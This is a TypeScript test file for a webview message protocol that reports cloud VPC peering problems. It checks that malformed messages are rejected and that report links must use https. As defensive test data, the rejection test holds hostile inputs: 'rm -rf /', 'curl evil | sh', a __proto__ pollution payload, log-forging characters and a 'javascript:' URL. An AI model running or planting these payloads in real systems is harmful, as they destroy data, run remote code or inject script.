/**
 * The Doctor report's messages: the host endpoint rejects what does not fit
 * (logged on one line), hands the rest to its handlers, and stays usable
 * after a malformed message; the report view the host sends validates.
 */
import * as assert from 'node:assert/strict';
import {
  DoctorHostEndpoint,
  DoctorHostToWebview,
  type DoctorHandlers,
} from '../../../src/protocol/doctorMessages';
import { parse } from '../../../src/protocol/schema';

function endpoint() {
  const calls: string[] = [];
  const lines: string[] = [];
  const handlers: DoctorHandlers = {
    ready: () => void calls.push('ready'),
    recheck: () => void calls.push('recheck'),
    preview: (i) => void calls.push(`preview ${i}`),
    fix: (i) => void calls.push(`fix ${i}`),
    closePreview: () => void calls.push('closePreview'),
  };
  const host = new DoctorHostEndpoint(handlers, {
    info: (m) => lines.push(`info ${m}`),
    warn: (m) => lines.push(`warn ${m}`),
    error: (m) => lines.push(`error ${m}`),
  });
  return { host, calls, lines };
}

describe('protocol/doctorMessages', () => {
  it('hands well-formed messages to their handlers', async () => {
    const { host, calls } = endpoint();
    await host.receive({ type: 'ready', protocolVersion: 1 });
    await host.receive({ type: 'recheck' });
    await host.receive({ type: 'preview', finding: 2 });
    await host.receive({ type: 'fix', finding: 0 });
    await host.receive({ type: 'closePreview' });
    assert.deepEqual(calls, ['ready', 'recheck', 'preview 2', 'fix 0', 'closePreview']);
    assert.equal(host.rejected, 0);
  });

  it('rejects malformed messages, names the problem, and stays usable', async () => {
    const { host, calls, lines } = endpoint();
    const bad: unknown[] = [
      null,
      'fix',
      { type: 'fix' },
      { type: 'fix', finding: -1 },
      { type: 'fix', finding: 1.5 },
      { type: 'fix', finding: '0' },
      { type: 'fix', finding: 0, command: 'rm -rf /' },
      { type: 'fix', finding: 0, plan: { steps: [] } },
      { type: 'runScript', script: 'curl evil | sh' },
      { type: 'log', level: 'error', message: 'x'.repeat(5_000) },
      JSON.parse('{"type":"recheck","__proto__":{"polluted":true}}'),
    ];
    for (const message of bad) await host.receive(message);
    assert.equal(host.rejected, bad.length);
    assert.deepEqual(calls, [], 'nothing malformed reached a handler');
    assert.ok(lines.every((l) => l.startsWith('warn Doctor: rejected a message')));
    assert.ok(
      lines.some((l) => l.includes('message.finding: expected ≥ 0')),
      lines.join('\n'),
    );
    assert.ok(
      lines.some((l) => l.includes('unknown field "command"')),
      lines.join('\n'),
    );
    assert.ok(({} as Record<string, unknown>).polluted === undefined);
    // The panel is still usable: the next good message is handled as usual.
    await host.receive({ type: 'fix', finding: 3 });
    assert.deepEqual(calls, ['fix 3']);
  });

  it("logs the panel's text on one line and a handler's failure instead of throwing", async () => {
    const lines: string[] = [];
    const host = new DoctorHostEndpoint(
      {
        ready: () => undefined,
        recheck: () => Promise.reject(new Error('the sandbox is down')),
        preview: () => undefined,
        fix: () => undefined,
        closePreview: () => undefined,
      },
      {
        info: (m) => lines.push(m),
        warn: (m) => lines.push(m),
        error: (m, e) => lines.push(`${m}: ${(e as Error | undefined)?.message ?? ''}`),
      },
    );
    await host.receive({ type: 'log', level: 'warn', message: 'line one\nforged line\u202e' });
    await host.receive({ type: 'recheck' });
    assert.equal(lines.length, 2);
    assert.ok(!lines[0].includes('\n') && !lines[0].includes('\u202e'), lines[0]);
    assert.equal(lines[1], 'Doctor: recheck failed: the sandbox is down');
  });

  it('validates the report the host sends, doc links https only', () => {
    const report = {
      peeringKey: 'aws:pcx-1',
      title: 'app-vpc ↔ app-eu-vpc',
      sides: { local: 'app-vpc', peer: 'app-eu-vpc' },
      status: 'ready',
      checkedAt: 1,
      findings: [
        {
          code: 'route.missing',
          severity: 'error',
          side: 'peer',
          title: 'No route',
          detail: 'd',
          evidence: [{ kind: 'route-table', cloud: 'aws', id: 'rtb-2', summary: 's' }],
          doc: { title: 'AWS', url: 'https://docs.aws.amazon.com/vpc/' },
          fix: { kind: 'add-route', side: 'peer', summary: 'Add a route' },
        },
      ],
      skipped: [],
    };
    assert.ok(parse(DoctorHostToWebview, { type: 'report', report }).ok);
    const script = structuredClone(report);
    script.findings[0].doc.url = 'javascript:alert(1)';
    const parsed = parse(DoctorHostToWebview, { type: 'report', report: script });
    assert.ok(!parsed.ok && parsed.error.includes('findings[0].doc.url'));
  });
});
